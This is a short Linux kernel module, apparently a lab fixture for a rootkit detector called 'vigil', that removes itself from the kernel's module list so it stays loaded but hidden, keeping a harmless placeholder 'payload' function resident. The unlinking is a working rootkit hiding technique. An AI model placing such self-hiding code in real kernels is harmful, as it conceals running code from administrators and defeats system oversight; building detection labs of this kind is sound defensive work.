// SPDX-License-Identifier: GPL-2.0
/* Lab attack: a module that takes itself off the kernel's module list, as
 * rootkits do to hide, and stays loaded with its (payload) code resident. */
#include <linux/module.h>
#include <linux/list.h>

/* The payload a rootkit keeps: core code, not freed after init. */
static noinline int hidden_payload(int x)
{
	return x * 3 + 1;
}

/* Referenced from data, so the payload stays in the module's core text. */
int (*vigil_hide_payload)(int) = hidden_payload;

static int __init hide_init(void)
{
	list_del_init(&THIS_MODULE->list);
	pr_info("vigil-lab: module hidden (payload %d)\n", vigil_hide_payload(1));
	return 0;
}
module_init(hide_init);
MODULE_LICENSE("GPL");
